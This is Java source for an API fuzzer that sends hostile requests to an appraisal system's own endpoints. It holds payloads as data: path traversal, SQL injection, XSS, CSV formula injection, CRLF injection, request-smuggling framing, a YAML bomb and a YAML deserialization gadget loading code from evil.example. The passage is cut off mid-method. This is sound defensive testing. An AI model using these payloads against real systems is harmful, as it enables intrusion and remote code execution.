package appraisal.cli;

import appraisal.http.ApiServer;
import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;

/**
 * The fuzz's requests, drawn from a seeded random source over the operations the OpenAPI document
 * declares (read from the document, not listed here): each goes to one operation as one of the
 * identities, with one thing made hostile — the body (nulls, wrong types, huge numbers, deep
 * nesting, invalid UTF-8, NUL, truncated JSON, YAML bombs), the media type (unknown charsets, NUL,
 * multipart with bad boundaries), a header (If-Match, Authorization, cookies, CSRF, oversized and
 * malformed headers), the path (ids of others, {@code %u0041}, {@code %ff%fe}, {@code ..}, very
 * long), the query, the message's framing (a Content-Length that lies, bad chunks) or a client
 * that hangs up mid-body — and the rest plausible: ids of real agreements, people and units (in
 * and out of the sender's scope), the agreement's current ETag or a stale one, bodies shaped by the
 * document's schemas.
 */
final class HostileRequests {

    /** An operation of the document: its path under {@code /api/v1}, parameters and request body. */
    record Operation(String method, String path, List<String> pathParameters, List<Parameter> query, boolean ifMatch,
                     List<String> media, JsonNode body) {
        String key() {
            return method + " " + path;
        }

        boolean unsafe() {
            return !method.equals("GET");
        }
    }

    record Parameter(String name, boolean required, JsonNode schema) {
    }

    /**
     * Who sends a request: a demo account with its session cookie and CSRF token, a second session
     * kept for signing out (so that signing out does not leave the rest of the run without the
     * first), and its bearer token; or nobody.
     */
    record Identity(String role, Session session, Session leaving, String bearer) {
        static final Identity ANONYMOUS = new Identity("anonymous", null, null, null);

        String cookie() {
            return session == null ? null : session.cookie();
        }

        String csrf() {
            return session == null ? null : session.csrf();
        }
    }

    record Session(String cookie, String csrf) {
    }

    /** One request: what it is, its bytes and how it is sent ({@code agreement}: the agreement it names, if any). */
    record Attempt(int index, Operation operation, String role, String kind, String what, byte[] bytes, boolean alone,
                   boolean hangUp, String agreement) {
        String describe() {
            String text = new String(bytes, 0, Math.min(bytes.length, 400), StandardCharsets.ISO_8859_1).replace("\r\n", "⏎ ")
                    .replace("\n", "⏎ ").replaceAll("[\\x00-\\x1f\\x7f-\\xff]", "·");
            return "#" + index + " " + operation.key() + " as " + role + " [" + kind + ": " + what + "] " + text
                    + (bytes.length > 400 ? "…(" + bytes.length + " bytes)" : "");
        }
    }

    /** The families of hostility, each with its weight. */
    private static final Map<String, Integer> KINDS = new LinkedHashMap<>();

    static {
        KINDS.put("body", 30);
        KINDS.put("media", 10);
        KINDS.put("header", 10);
        KINDS.put("path", 14);
        KINDS.put("query", 8);
        KINDS.put("auth", 12);
        KINDS.put("framing", 5);
        KINDS.put("hang-up", 2);
        KINDS.put("plain", 9);
    }

    private static final List<String> SEGMENTS = List.of("%u0041", "%ff%fe", "..", "%2e%2e", ".", "%2e", "%2F", "..%2F..%2F..%2Fetc%2Fpasswd",
            "%00", "AG-1%00", "%", "%zz", "%C0%AE%C0%AE", "%E0%B8", "%0d%0aX-Injected:%20yes", "AG-1;jsessionid=x", "AG-1%3Bx", "%20", "",
            "AG-" + "9".repeat(40), "a".repeat(9_000), "b".repeat(2_000), "%E0%B8%97%E0%B8%94%E0%B8%AA%E0%B8%AD%E0%B8%9A", "%F0%9F%99%8F",
            "'%20OR%20'1'='1", "%3Cscript%3E", "*", "~", "%25", "%2525", "%5C", "AG-1%2F..", "%FE%FF", "%ED%A0%80", "%EF%BB%BF",
            "\u00ff\u00fe", "\u0e17\u0e14", "<x>", "\\", "AG-1/", "AG-1/..", "/");
    private static final List<String> QUERY_VALUES = List.of("-1", "0", "abc", "1e3", "99999999999999999999", "1.5", "%u0041",
            "%ff%fe", "%00", "%", "%zz", "", "a".repeat(5_000), "%E0%B8%97", "2565-2%00", "%0d%0a", "+", "%2B", "2565-2'--", "๑");
    private static final List<String> IF_MATCH = List.of("\"v1\"", "\"v0\"", "\"v-1\"", "\"v99999999999999999999\"",
            "\"v9223372036854775807\"", "W/\"v1\"", "v1", "\"v1\", \"v2\"", "*, \"v1\"", "\"\"", "\"vabc\"", "\"v1", "null", "\u0000",
            "\"v1\"\u0000", "\"v๑\"", "\u00e0\u00b8\u0081", "x".repeat(9_000), " ", "*", "**");
    private static final List<String> CONTENT_TYPES = List.of("application/json; charset=ebcdic", "application/json; charset=utf-16",
            "application/json; charset=UTF-32BE", "application/json; charset=\"\"", "application/json; charset=x-no-such-charset",
            "application/json; charset=", "application/json\u0000", "application/json; charset=utf-8\u0000", "text/plain",
            "application/xml", "text/html", "", "application/json;;;", "application/json; charset=utf-8; charset=latin1", "*/*",
            "application/*", "application/jsonx", "APPLICATION/JSON", "application/yaml", "text/yaml; charset=ebcdic",
            "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=\"unterminated",
            "multipart/form-data; boundary=" + "b".repeat(200), "multipart/mixed; boundary=x",
            "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=ebcdic", "a".repeat(9_000),
            "application/json; boundary=x", "application/json; charset=utf-8 (comment)", "\u00e0\u00b8\u0081/json");
    /** JSON values no field expects, written as they go on the wire. */
    private static final List<String> VALUES = List.of("null", "true", "false", "0", "-1", "1.5", "1e400", "-1e400",
            "123456789012345678901234567890", "9223372036854775808", "-9223372036854775809", "1E-400", "NaN", "Infinity", "-0", "0x10",
            "01", "\"\"", "\"a\\u0000b\"", "\"\\ud800\"", "\"\\uDFFF\\uD800\"", "\"<script>alert(1)</script>\"", "\"' OR '1'='1\"",
            "\"../../etc/passwd\"", "\"=cmd|' /C calc'!A0\"", "\"\\n\\r\\t\"", "[]", "[null]", "{}", "{\"$ref\":\"#\"}",
            "[[[[[[[[[[]]]]]]]]]]", "\"2030-13-45\"", "\"P4\"", "\"AG-1\"", "\"๑๒๓\"", "\"" + "ก".repeat(100_000) + "\"",
            "[" + "1,".repeat(10_000) + "1]", "\"\\u202e\"", "\"🙏🏽\"", "{\"a\":" .repeat(1_500) + "1" + "}".repeat(1_500));
    private static final List<String> YAML = List.of("a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
            + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
            + "f: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
            + "[\"http://evil.example/\"]]]]\n", "a:\n\t- tab\n", "a: b: c\n", "- [unclosed\n", "key: *undefined\n", "? [a]\n: b\n",
            "a: !!binary AAAA\n", "%YAML 9.9\n---\na: 1\n", "&a [*a]\n", "a: 1\na: 2\n", "---\n...\n---\n", "\u0000: 1\n",
            "a: '" + "ก".repeat(50_000) + "'\n");
    private static final List<String> AUTHORIZATION = List.of("Bearer", "Bearer ", "Basic YWRtaW46ZGVtby0yNTY1LXBhc3M=", "Token abc",
            "Bearer " + "x".repeat(5_000), "Bearer \u0000", "Bearer ' OR '1'='1", "Negotiate YII=", "", "Bearer \u00e0\u00b8\u0081",
            "Bearer a b c", "Bearer\tabc");

    private final List<Operation> operations;
    private final Map<String, List<String>> pools;
    private final List<Identity> identities;
    private final Map<String, String> etags;
    private final Map<String, String> documents;
    private final Map<String, String> documentsAsJson = new java.util.HashMap<>();
    private final JsonNode root;
    private final SplittableRandom random;
    private final String host;
    private final int total;

    /**
     * @param pools    ids by kind (agreement, person, unit, round, token, item, indicator, user)
     * @param etags    each agreement's current ETag as last answered, kept up to date by the caller
     * @param documents example interchange documents by kind (agreement, round, rubric)
     */
    HostileRequests(JsonNode document, Map<String, List<String>> pools, List<Identity> identities, Map<String, String> etags,
                    Map<String, String> documents, long seed, String host) {
        this.root = document;
        this.operations = operations(document);
        this.pools = pools;
        this.identities = identities;
        this.etags = etags;
        this.documents = documents;
        this.random = new SplittableRandom(seed);
        this.host = host;
        this.total = KINDS.values().stream().mapToInt(Integer::intValue).sum();
    }

    List<Operation> operations() {
        return operations;
    }

    /** Every operation of the document, in its order. */
    static List<Operation> operations(JsonNode doc) {
        List<Operation> out = new ArrayList<>();
        for (Map.Entry<String, JsonNode> path : doc.path("paths").properties()) {
            for (Map.Entry<String, JsonNode> op : path.getValue().properties()) {
                List<String> inPath = new ArrayList<>();
                java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(path.getKey());
                while (m.find()) {
                    inPath.add(m.group(1));
                }
                List<Parameter> query = new ArrayList<>();
                boolean ifMatch = false;
                for (JsonNode p : op.getValue().path("parameters")) {
                    JsonNode param = resolve(doc, p);
                    if (param.path("in").asText().equals("query")) {
                        query.add(new Parameter(param.path("name").asText(), param.path("required").asBoolean(), param.path("schema")));
                    } else if (param.path("in").asText().equals("header") && param.path("name").asText().equals("If-Match")) {
                        ifMatch = true;
                    }
                }
                List<String> media = new ArrayList<>();
                JsonNode body = null;
                for (Map.Entry<String, JsonNode> c : op.getValue().path("requestBody").path("content").properties()) {
                    media.add(c.getKey());
                    if (body == null) {
                        body = c.getValue().path("schema");
                    }
                }
                out.add(new Operation(op.getKey().toUpperCase(Locale.ROOT), path.getKey(), inPath, query, ifMatch, media, body));
            }
        }
        return out;
    }

    private static JsonNode resolve(JsonNode doc, JsonNode node) {
        JsonNode n = node;
        while (n != null && n.has("$ref")) {
            n = doc.at(n.get("$ref").asText().substring(1));
        }
        return n;
    }

    /** The {@code index}th request: every operation in turn, the sender and the hostility drawn at random. */
    Attempt next(int index) {
        Operation op = operations.get(index % operations.size());
        Identity who = identities.get(random.nextInt(identities.size()));
        String kind = kind();
        Request r = new Request(op, who);
        r.plausible();
        switch (kind) {
            case "body" -> r.hostileBody();
            case "media" -> r.hostileMedia();
            case "header" -> r.hostileHeader();
            case "path" -> r.hostilePath();
            case "query" -> r.hostileQuery();
            case "auth" -> r.hostileAuth();
            case "framing" -> r.hostileFraming();
            case "hang-up" -> r.hangUp();
            default -> r.what = "plausible";
        }
        return new Attempt(index, op, who.role(), kind, r.what, r.bytes(), r.alone, r.hangUp, r.agreement);
    }

    private String kind() {
        int n = random.nextInt(total);
        for (Map.Entry<String, Integer> k : KINDS.entrySet()) {
            n -= k.getValue();
            if (n < 0) {
                return k.getKey();
            }
        }
        throw new IllegalStateException();
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    private boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    private static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** One request being put together: plausible first, then one part made hostile. */
    private final class Request {
        final Operation op;
        final Identity who;
        String method;
        List<String> segments = new ArrayList<>();
        Map<String, String> query = new LinkedHashMap<>();
        String rawQuery;
        /** Header lines in order; a null value drops the header. */
        Map<String, String> headers = new LinkedHashMap<>();
        List<String> extraHeaderLines = new ArrayList<>();
        byte[] body;
        String what = "";
        boolean alone;
        boolean hangUp;
        String agreement;
        String version = "HTTP/1.1";
        Integer contentLength;

        Request(Operation op, Identity who) {
            this.op = op;
            this.who = who;
            this.method = op.method();
        }

        void plausible() {
            String path = op.path();
            String[] parts = path.substring(1).split("/");
            int param = 0;
            for (String part : parts) {
                if (part.startsWith("{")) {
                    String name = op.pathParameters().get(param++);
                    String value = pathValue(path, name);
                    if (name.equals("id") && path.startsWith("/agreements/")) {
                        agreement = value;
                    }
                    segments.add(encode(value));
                } else {
                    segments.add(part);
                }
            }
            for (Parameter p : op.query()) {
                if (p.required() || chance(40)) {
                    query.put(p.name(), encode(queryValue(p.name())));
                }
            }
            headers.put("Host", host);
            headers.put("Accept", chance(80) ? "application/json" : pick(List.of("*/*", "text/html", "application/xml", "*/*;q=abc")));
            signIn(who);
            if (op.ifMatch() || chance(3)) {
                String etag = agreement == null ? null : etags.get(agreement);
                int roll = random.nextInt(100);
                if (roll < 40 && etag != null) {
                    headers.put("If-Match", etag);
                } else if (roll < 50) {
                    headers.put("If-Match", "*");
                } else if (roll < 80) {
                    headers.put("If-Match", "\"v" + (1 + random.nextInt(20)) + "\"");
                }
            }
            if (!op.media().isEmpty()) {
                String media = pick(op.media());
                headers.put("Content-Type", media.equals("application/json") && chance(30) ? "application/json; charset=utf-8" : media);
                body = plausibleBody(media);
            } else if (op.unsafe() && chance(10)) {
                headers.put("Content-Type", "application/json");
                body = "{}".getBytes(StandardCharsets.UTF_8);
            }
        }

        private void signIn(Identity id) {
            if (id.bearer() == null) {
                return;
            }
            int roll = random.nextInt(100);
            Session session = op.key().equals("DELETE /session") ? id.leaving() : id.session();
            if (roll < 55) {
                headers.put("Authorization", "Bearer " + id.bearer());
            } else {
                headers.put("Cookie", "appraisal_session=" + session.cookie());
                if (op.unsafe()) {
                    headers.put("X-CSRF-Token", session.csrf());
                }
            }
        }

        private String pathValue(String path, String name) {
            switch (name) {
                case "item":
                    return pick(pools.get("item"));
                case "code":
                    return pick(pools.get("indicator"));
                case "version":
                    return String.valueOf(random.nextInt(4));
                case "sha256":
                    return hex(64);
                default:
                    if (path.startsWith("/agreements")) {
                        return pick(pools.get("agreement"));
                    } else if (path.startsWith("/people")) {
                        return pick(pools.get("person"));
                    } else if (path.startsWith("/org-units")) {
                        return pick(pools.get("unit"));
                    } else if (path.startsWith("/rounds")) {
                        return pick(pools.get("round"));
                    } else if (path.startsWith("/tokens")) {
                        return pick(pools.get("token"));
                    }
                    return "x";
            }
        }

        private String queryValue(String name) {
            switch (name) {
                case "round":
                    return pick(pools.get("round"));
                case "unit":
                    return pick(pools.get("unit"));
                case "appraisee":
                    return pick(pools.get("person"));
                case "user":
                    return pick(pools.get("user"));
                case "page":
                    return String.valueOf(1 + random.nextInt(3));
                case "size":
                    return String.valueOf(1 + random.nextInt(100));
                case "name":
                    return pick(List.of("รายงาน.pdf", "evidence.csv", "photo.png", "notes.txt"));
                default:
                    return "x";
            }
        }

        private String hex(int n) {
            StringBuilder s = new StringBuilder();
            for (int i = 0; i < n; i++) {
                s.append("0123456789abcdef".charAt(random.nextInt(16)));
            }
            return s.toString();
        }

        private byte[] plausibleBody(String media) {
            if (media.equals("application/octet-stream")) {
                return pick(List.of("%PDF-1.4\n%%EOF\n", "a,b\n1,2\n", "plain text ภาษาไทย\n", "\u0089PNG\r\n\u001a\n"))
                        .getBytes(StandardCharsets.UTF_8);
            }
            JsonNode schema = resolve(root, op.body());
            if (schema.path("properties").isEmpty() && schema.path("description").asText().contains("interchange")) {
                String kind = op.path().startsWith("/agreements") ? "agreement" : op.path().startsWith("/rounds") ? "round" : "rubric";
                String yaml = documents.get(kind);
                if (media.contains("yaml")) {
                    return yaml.getBytes(StandardCharsets.UTF_8);
                }
                return documentsAsJson.computeIfAbsent(kind, k -> Json.fromYaml(yaml)).getBytes(StandardCharsets.UTF_8);
            }
            return json(schema, "", 0).getBytes(StandardCharsets.UTF_8);
        }

        /** A plausible value of {@code schema}, as JSON text. */
        private String json(JsonNode node, String name, int depth) {
            JsonNode schema = resolve(root, node);
            if (schema.has("enum")) {
                return Json.quote(pick(toList(schema.get("enum"))));
            }
            if (schema.has("oneOf")) {
                return json(schema.get("oneOf").get(random.nextInt(schema.get("oneOf").size())), name, depth);
            }
            String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
            switch (type) {
                case "integer":
                    return String.valueOf(schema.has("minimum") ? schema.get("minimum").asLong() + random.nextInt(5) : random.nextInt(6));
                case "number":
                    return String.valueOf(random.nextInt(101));
                case "boolean":
                    return String.valueOf(random.nextBoolean());
                case "array":
                    StringBuilder a = new StringBuilder("[");
                    int n = depth > 2 ? 0 : random.nextInt(3);
                    for (int i = 0; i < n; i++) {
                        a.append(i == 0 ? "" : ",").append(json(schema.path("items"), name, depth + 1));
                    }
                    return a.append(']').toString();
                case "object":
                    StringBuilder o = new StringBuilder("{");
                    Set<String> required = new java.util.HashSet<>(toList(schema.path("required")));
                    for (Map.Entry<String, JsonNode> p : schema.path("properties").properties()) {
                        if (required.contains(p.getKey()) || chance(50)) {
                            o.append(o.length() == 1 ? "" : ",").append(Json.quote(p.getKey())).append(':')
                                    .append(json(p.getValue(), p.getKey(), depth + 1));
                        }
                    }
                    if (schema.path("additionalProperties").isObject() && depth < 3) {
                        String key = pick(pools.getOrDefault(name, pools.get("key")));
                        o.append(o.length() == 1 ? "" : ",").append(Json.quote(key)).append(':')
                                .append(json(schema.get("additionalProperties"), key, depth + 1));
                    }
                    return o.append('}').toString();
                default:
                    return Json.quote(text(name, schema));
            }
        }

        private String text(String name, JsonNode schema) {
            if (schema.path("pattern").asText().contains("0-9a-fA-F")) {
                return hex(64);
            }
            if (schema.path("format").asText().equals("date-time")) {
                return "2022-08-01T03:00:00Z";
            }
            switch (name) {
                case "round":
                    return pick(pools.get("round"));
                case "appraisee": case "person": case "supervisor": case "witness":
                    return pick(pools.get("person"));
                case "unit": case "responsible_unit":
                    return pick(pools.get("unit"));
                case "parent":
                    return pick(chance(50) ? pools.get("agreement") : pools.get("unit"));
                case "indicator": case "item":
                    return pick(pools.get("indicator"));
                case "username":
                    return "fuzz." + hex(6);
                case "password":
                    return "fuzz-password-" + hex(8);
                default:
                    return pick(List.of("ทดสอบ", "เห็นด้วยกับผลการประเมิน", "reason", "P4", "x"));
            }
        }

        void hostileBody() {
            if (!headers.containsKey("Content-Type")) {
                headers.put("Content-Type", "application/json");
            }
            String plausible = body == null ? "{}" : new String(body, StandardCharsets.UTF_8);
            if (op.media().stream().anyMatch(m -> m.contains("yaml")) && chance(25)) {
                headers.put("Content-Type", "application/yaml");
                what = "YAML";
                body = pick(YAML).getBytes(StandardCharsets.UTF_8);
                return;
            }
            int roll = random.nextInt(13);
            switch (roll) {
                case 0 -> set("whole body", pick(List.of("null", " null ", "", " ", "\"text\"", "123", "true", "[]", "[{}]", "{}{}")));
                case 1 -> {
                    int cut = plausible.length() < 2 ? 0 : random.nextInt(plausible.length() - 1);
                    set("truncated at " + cut, plausible.substring(0, cut));
                }
                case 2 -> set("trailing bytes", plausible + pick(List.of(" trailing", "}", "\u0000", ",", "{}")));
                case 3 -> set("byte order mark", "\ufeff" + plausible);
                case 4 -> set("comment and quotes", pick(List.of("/* c */", "// c\n", "#")) + plausible.replace('"', '\''));
                case 5 -> {
                    what = "invalid UTF-8";
                    byte[] bad = pick(List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xED, (byte) 0xA0,
                            (byte) 0x80}, new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80,
                            (byte) 0x80}, new byte[] {(byte) 0xE0, (byte) 0xB8}));
                    body = splice(plausible, bad);
                }
                case 6 -> {
                    what = "raw NUL";
                    body = splice(plausible, new byte[] {0});
                }
                case 7 -> set("deep nesting", pick(List.of("[".repeat(100_000), "{\"a\":".repeat(50_000), "[".repeat(2_000) + "]".repeat(2_000))));
                case 8 -> set("a long array", "[" + "1,".repeat(50_000) + "1]");
                case 9 -> {
                    what = "UTF-16";
                    body = plausible.getBytes(chance(50) ? StandardCharsets.UTF_16 : StandardCharsets.UTF_16LE);
                }
                case 10 -> {
                    what = "random bytes";
                    body = new byte[1 + random.nextInt(2_000)];
                    for (int i = 0; i < body.length; i++) {
                        body[i] = (byte) random.nextInt(256);
                    }
                }
                case 11 -> {
                    if (chance(10)) {
                        set("too large", "{\"reason\":\"" + "x".repeat(1_100_000) + "\"}");
                    } else {
                        set("duplicate key", plausible.startsWith("{\"") ? "{\"" + plausible.substring(2, plausible.indexOf('"', 2)) + "\":1,"
                                + plausible.substring(1) : "{\"a\":1,\"a\":2}");
                    }
                }
                default -> {
                    String value = pick(VALUES);
                    String mutated = mutateField(plausible, value);
                    set("a field " + (value.length() > 40 ? value.substring(0, 40) + "…" : value), mutated);
                }
            }
        }

        /** The plausible JSON object with one field's value (or a new field) replaced by {@code value}. */
        private String mutateField(String plausible, String value) {
            if (!plausible.startsWith("{") || plausible.equals("{}")) {
                return "{\"" + pick(List.of("reason", "weight", "facts", "x")) + "\":" + value + "}";
            }
            java.util.regex.Matcher keys = java.util.regex.Pattern.compile("\"([a-z_]+)\":").matcher(plausible);
            List<String> found = new ArrayList<>();
            while (keys.find()) {
                found.add(keys.group(1));
            }
            if (found.isEmpty() || chance(15)) {
                return "{\"unknown_field\":" + value + "," + plausible.substring(1);
            }
            String key = pick(found);
            // the value after the key up to the next comma or brace at the same depth is replaced
            int at = plausible.indexOf("\"" + key + "\":") + key.length() + 3;
            int end = valueEnd(plausible, at);
            return plausible.substring(0, at) + value + plausible.substring(end);
        }

        private int valueEnd(String s, int from) {
            int depth = 0;
            boolean inString = false;
            for (int i = from; i < s.length(); i++) {
                char c = s.charAt(i);
                if (inString) {
                    if (c == '\\') {
                        i++;
                    } else if (c == '"') {
                        inString = false;
                    }
                } else if (c == '"') {
                    inString = true;
                } else if (c == '{' || c == '[') {
                    depth++;
                } else if (c == '}' || c == ']') {
                    if (depth == 0) {
                        return i;
                    }
                    depth--;
                } else if (c == ',' && depth == 0) {
                    return i;
                }
            }
            return s.length();
        }

        private byte[] splice(String text, byte[] bad) {
            byte[] good = text.getBytes(StandardCharsets.UTF_8);
            int at = good.length == 0 ? 0 : random.nextInt(good.length);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.write(good, 0, at);
            out.writeBytes(bad);
            out.write(good, at, good.length - at);
            return out.toByteArray();
        }

        private void set(String what, String text) {
            this.what = what;
            this.body = text.getBytes(StandardCharsets.UTF_8);
        }

        void hostileMedia() {
            String type = pick(CONTENT_TYPES);
            headers.put("Content-Type", type);
            what = "Content-Type " + abbreviate(type);
            if (body == null) {
                body = "{}".getBytes(StandardCharsets.UTF_8);
            }
            if (type.startsWith("multipart")) {
                String boundary = pick(List.of("X", "Y", "", "b".repeat(200)));
                body = pick(List.of("--" + boundary + "\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\nabc",
                        "--Z\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--Z--\r\n",
                        "--" + boundary + "\r\nContent-Disposition: form-data; name=\"a\u0000b\"; filename=\"x\u0000.pdf\"\r\n\r\n%PDF\r\n--"
                                + boundary + "--\r\n", "", "--\r\n\r\n--", "garbage")).getBytes(StandardCharsets.ISO_8859_1);
                what += " with a multipart body that does not fit it";
            } else if (type.startsWith("application/x-www-form-urlencoded")) {
                body = pick(List.of("_csrf=%zz", "a=%", "%ff%fe=1", "_csrf=" + "x".repeat(10_000), "a=1&&&b", "=&=", "_csrf=%u0041",
                        "weight=50")).getBytes(StandardCharsets.ISO_8859_1);
            }
            if (who.cookie() != null && chance(50)) {
                // a form post with the session cookie and no CSRF header: the server looks for _csrf in the body
                headers.remove("Authorization");
                headers.remove("X-CSRF-Token");
                headers.put("Cookie", "appraisal_session=" + who.cookie());
                what += ", session without CSRF header";
            }
        }

        void hostileHeader() {
            int roll = random.nextInt(9);
            switch (roll) {
                case 0, 1 -> {
                    String value = pick(IF_MATCH);
                    headers.put("If-Match", value);
                    what = "If-Match " + abbreviate(value);
                }
                case 2 -> {
                    String line = pick(List.of("Bad Header: x", "NoColon", " folded: continuation", "X-Long: " + "y".repeat(20_000),
                            "X-High: \u00ff\u00fe\u0080", "X-Nul: a\u0000b", ": empty-name", "X-CRLF: a\rb"));
                    extraHeaderLines.add(line);
                    what = "header line " + abbreviate(line);
                }
                case 3 -> {
                    for (int i = 0; i < 300; i++) {
                        extraHeaderLines.add("X-Many-" + i + ": " + i);
                    }
                    what = "300 headers";
                }
                case 4 -> {
                    String value = pick(List.of("100-continue", "something-else", "100-continue, x"));
                    headers.put("Expect", value);
                    what = "Expect " + value;
                }
                case 5 -> {
                    String host = pick(List.of("", "evil.example", "[::1", "a".repeat(300), "127.0.0.1:99999", "\u00ff"));
                    if (host.isEmpty() && chance(50)) {
                        headers.remove("Host");
                        what = "no Host";
                    } else {
                        headers.put("Host", host);
                        what = "Host " + abbreviate(host);
                    }
                }
                case 6 -> {
                    String h = pick(List.of("Content-Encoding: gzip", "Content-Encoding: br, gzip", "X-HTTP-Method-Override: DELETE",
                            "X-Forwarded-For: \u0000, 1.2.3.4", "X-Forwarded-Proto: gopher", "Range: bytes=abc", "If-None-Match: *",
                            "If-Modified-Since: yesterday", "Origin: http://evil.example", "Accept-Charset: ebcdic",
                            "Accept-Encoding: x-nothing;q=abc", "Cookie: " + "c=1; ".repeat(2_000), "Content-Type: application/json",
                            "Authorization: Bearer a", "Connection: keep-alive, Upgrade", "Upgrade: h2c", "TE: trailers, deflate"));
                    extraHeaderLines.add(h);
                    what = "header " + abbreviate(h);
                }
                case 7 -> {
                    headers.put("Accept", pick(List.of("application/xml", "text/html;q=abc", "\u0000", "a".repeat(9_000))));
                    what = "Accept";
                }
                default -> {
                    String m = pick(List.of("get", "GETT", "PATCH", "PUT", "DELETE", "POST", "OPTIONS", "TRACE", "HEAD", "CONNECT", "PROPFIND",
                            "G\u0000T", "POST\u00ff"));
                    method = m;
                    what = "method " + m;
                    alone = m.equals("CONNECT") || m.equals("HEAD");
                }
            }
        }

        void hostilePath() {
            String segment = pick(SEGMENTS);
            int roll = random.nextInt(5);
            if (roll < 3 && !op.pathParameters().isEmpty()) {
                List<Integer> params = new ArrayList<>();
                String[] parts = op.path().substring(1).split("/");
                for (int i = 0; i < parts.length; i++) {
                    if (parts[i].startsWith("{")) {
                        params.add(i);
                    }
                }
                int at = pick(params);
                segments.set(at, segment);
                what = "path parameter " + abbreviate(segment);
                agreement = null;
            } else if (roll == 3) {
                segments.add(random.nextInt(segments.size() + 1), segment);
                what = "extra segment " + abbreviate(segment);
                agreement = null;
            } else {
                String prefix = pick(List.of("/api/v1//", "/api/v1/./", "/api/v1/../v1/", "/API/V1/", "/api/v1/%2e/", "//api/v1/",
                        "/api/v2/", "/api/v1;x=y/", "/api/v1%2F", "/./api/v1/"));
                what = "prefix " + prefix;
                rawPrefix = prefix;
            }
        }

        String rawPrefix;

        void hostileQuery() {
            int roll = random.nextInt(6);
            if (roll == 0) {
                rawQuery = pick(List.of("&&&", "=", "a", "%", "%zz=1", "%u0041=1", "%ff%fe", "page=1&page=2&page=x", "round=2565-2&round=x",
                        "?a=1", "a=1#frag", "q=" + "z".repeat(10_000)));
                what = "query " + abbreviate(rawQuery);
            } else if (roll == 1 && !op.query().isEmpty()) {
                Parameter p = pick(op.query());
                query.remove(p.name());
                what = "without " + p.name();
            } else {
                String name = op.query().isEmpty() || chance(20) ? pick(List.of("page", "size", "round", "unit", "user", "x", "name"))
                        : pick(op.query()).name();
                String value = pick(QUERY_VALUES);
                query.put(name, value);
                what = name + "=" + abbreviate(value);
            }
        }

        void hostileAuth() {
            int roll = random.nextInt(6);
            headers.remove("Authorization");
            headers.remove("Cookie");
            headers.remove("X-CSRF-Token");
            Identity other = pick(identities);
            switch (roll) {
                case 0 -> {
                    String value = pick(AUTHORIZATION);
                    headers.put("Authorization", value);
                    what = "Authorization " + abbreviate(value);
                }
                case 1 -> {
                    String token = who.bearer() == null ? "x" : who.bearer();
                    String value = pick(List.of("Bearer " + token + "x", "Bearer " + token.substring(0, token.length() - 1),
                            "bearer " + token, "Bearer  " + token + " ", "Bearer " + token + ", Bearer " + token, "Basic " + token));
                    headers.put("Authorization", value);
                    what = "Authorization with the token altered";
                }
                case 2 -> {
                    String cookie = pick(List.of("appraisal_session=", "appraisal_session=garbage", "appraisal_session=%00",
                            "appraisal_session=\"quoted\"", "=;;;", "appraisal_session", "appraisal_session=" + "c".repeat(5_000),
                            "appraisal_session=" + (who.cookie() == null ? "x" : who.cookie() + "x")));
                    headers.put("Cookie", cookie);
                    what = "Cookie " + abbreviate(cookie);
                }
                case 3 -> {
                    if (who.cookie() != null) {
                        headers.put("Cookie", "appraisal_session=" + who.cookie());
                    }
                    String csrf = pick(List.of("", "wrong", "\u0000", "x".repeat(1_000), other.csrf() == null ? "y" : other.csrf()));
                    if (!csrf.isEmpty() || chance(50)) {
                        headers.put("X-CSRF-Token", csrf);
                    }
                    what = "session with CSRF token " + abbreviate(csrf);
                }
                case 4 -> {
                    if (who.cookie() != null && other.bearer() != null) {
                        headers.put("Cookie", "appraisal_session=" + who.cookie());
                        headers.put("Authorization", "Bearer " + other.bearer());
                        what = "cookie of " + who.role() + " and token of " + other.role();
                    } else {
                        headers.put("Cookie", "appraisal_session=a; appraisal_session=b");
                        what = "two session cookies";
                    }
                }
                default -> {
                    if (other.cookie() != null) {
                        headers.put("Cookie", "appraisal_session=" + other.cookie());
                        headers.put("X-CSRF-Token", who.csrf() == null ? "none" : who.csrf());
                    }
                    what = "cookie of " + other.role() + " with the CSRF token of " + who.role();
                }
            }
        }

        void hostileFraming() {
            alone = true;
            if (body == null) {
                body = "{\"a\":1}".getBytes(StandardCharsets.UTF_8);
                headers.putIfAbsent("Content-Type", "application/json");
            }
            int roll = random.nextInt(10);
            switch (roll) {
                case 0 -> {
                    String value = pick(List.of("abc", "-1", "99999999999999999999", "1e3", " ", "0x10", "+5", "5, 6"));
                    headers.put("Content-Length", value);
                    what = "Content-Length " + value;
                }
                case 1 -> {
                    headers.put("Content-Length", String.valueOf(body.length));
                    extraHeaderLines.add("Content-Length: " + (body.length + 1));
                    what = "two Content-Lengths";
                }
                case 2 -> {
                    headers.put("Content-Length", String.valueOf(Math.max(0, body.length / 2)));
                    what = "Content-Length shorter than the body";
                }
                case 3 -> {
                    headers.put("Transfer-Encoding", "chunked");
                    headers.put("Content-Length", String.valueOf(body.length));
                    body = chunk(body, "");
                    what = "chunked and Content-Length";
                }
                case 4 -> {
